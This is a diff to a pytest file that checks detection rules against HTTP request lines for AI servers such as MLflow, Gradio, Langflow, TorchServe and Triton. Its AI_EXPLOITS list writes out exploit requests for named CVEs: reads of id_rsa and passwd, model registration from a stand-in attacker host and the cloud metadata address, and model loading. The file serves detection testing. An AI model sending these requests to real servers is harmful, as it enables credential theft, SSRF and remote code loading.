@@ -74,6 +74,29 @@ BENIGN = [
     ("GET /download/report-2024.pdf HTTP/1.1", 200, AGENT),
     ("GET /api/v1/chats/search?text=select%20the%20union%20docs&page=1 HTTP/1.1", 200, AGENT),
     ("GET /api/v1/knowledge/search?query=onboarding&view_option=&page=1 HTTP/1.1", 200, AGENT),
+    # MLflow artifact downloads, Gradio's cached files (the file-read rules' neighbours)
+    ("GET /model-versions/get-artifact?path=model/MLmodel&name=m&version=1 HTTP/1.1", 200, AGENT),
+    (
+        "GET /model-versions/get-artifact?path=requirements.txt&name=m&version=3 HTTP/1.1",
+        200,
+        AGENT,
+    ),
+    ("GET /get-artifact?path=metrics.json&run_uuid=0a1b2c3d HTTP/1.1", 200, AGENT),
+    ("GET /get-artifact?path=model%2Fpython_env.yaml&run_uuid=0a1b2c3d HTTP/1.1", 200, AGENT),
+    ("GET /get-artifact?path=eval/credentials_report.csv&run_uuid=0a1b HTTP/1.1", 200, AGENT),
+    ("GET /gradio_api/file=/tmp/gradio/5e0c2f/audio.wav HTTP/1.1", 200, AGENT),
+    ("GET /file=/tmp/gradio/5e0c2f/passwords-chart.png HTTP/1.1", 200, AGENT),
+    # Langflow's UI, TorchServe and Triton inference and status
+    ("GET /api/v1/flows/?remove_example_flows=false&get_all=true HTTP/1.1", 200, AGENT),
+    ("POST /api/v1/build/3c1e2d7a-9b1f-4c56-8c2e-2a4a0a1f0d3b/flow HTTP/1.1", 200, AGENT),
+    ("POST /api/v1/validate/prompt HTTP/1.1", 200, AGENT),
+    ("GET /api/v1/all?force_refresh=true HTTP/1.1", 200, AGENT),
+    ("POST /predictions/resnet-18 HTTP/1.1", 200, "python-requests/2.31.0"),
+    ("GET /models HTTP/1.1", 200, "curl/8.5.0"),
+    ("POST /models?url=squeezenet1_1.mar&initial_workers=1 HTTP/1.1", 200, "curl/8.5.0"),
+    ("POST /v2/models/resnet50/infer HTTP/1.1", 200, "python-requests/2.31.0"),
+    ("POST /v2/models/resnet50/versions/1/infer HTTP/1.1", 200, "python-requests/2.31.0"),
+    ("GET /v2/health/ready HTTP/1.1", 200, "kube-probe/1.29"),
 ]
 
 EXCLUSION_CASES = [
@@ -135,6 +158,39 @@ def test_benign_request_matches_no_rule(request_line: str, status: int, agent: s
     assert isinstance(event, HttpRequest)
     rules, _ = MATCHER.match(event)
     assert [r.id for r in rules] == []
+
+
+AI_EXPLOITS = [
+    # CVE-2023-1177 (MLflow): the public exploit and Tsunami's detector
+    ("GET /model-versions/get-artifact?path=id_rsa&name=8f3a1c&version=1", 200, "mlflow-file-read"),
+    ("GET /model-versions/get-artifact?path=etc/passwd&name=T1&version=1", 200, "mlflow-file-read"),
+    # CVE-2024-1561 (Gradio): the file the component server copied into the cache
+    (
+        "GET /file=/tmp/gradio/916ba9fd82d7e3a7d6d6ad3e7d1fa5b6f0a7d2c9/passwd",
+        200,
+        "gradio-file-read",
+    ),
+    ("POST /api/v1/validate/code", 200, "langflow-validate-code"),  # CVE-2025-3248
+    ("POST /api/v1/validate/code", 404, "langflow-validate-code"),
+    (
+        "POST /models?url=http://198.51.100.200:8888/evil.mar&batch_size=1",
+        200,
+        "torchserve-register-url",
+    ),
+    ("POST /models?url=http://169.254.169.254/latest/meta-data/", 500, "torchserve-register-url"),
+    ("POST /workflows?url=http://198.51.100.200:8888/wf.war", 200, "torchserve-register-url"),
+    ("POST /v2/repository/models/pwn/load", 200, "triton-model-control"),
+    ("POST /v2/repository/models/pwn/unload", 200, "triton-model-control"),
+]
+
+
+@pytest.mark.parametrize(("target", "status", "rule_id"), AI_EXPLOITS)
+def test_public_ai_server_exploits_match_their_rule(target: str, status: int, rule_id: str) -> None:
+    """The requests of public exploits of AI servers (MLflow, Gradio, Langflow, TorchServe,
+    Triton) match the rule that names them, alone."""
+    event = PARSER.parse(_benign_line(f"{target} HTTP/1.1", status, "python-requests/2.31.0"))
+    assert isinstance(event, HttpRequest)
+    assert [r.id for r in MATCHER.match(event)[0]] == [rule_id]
 
 
 def test_empty_request_line_is_not_malformed() -> None:
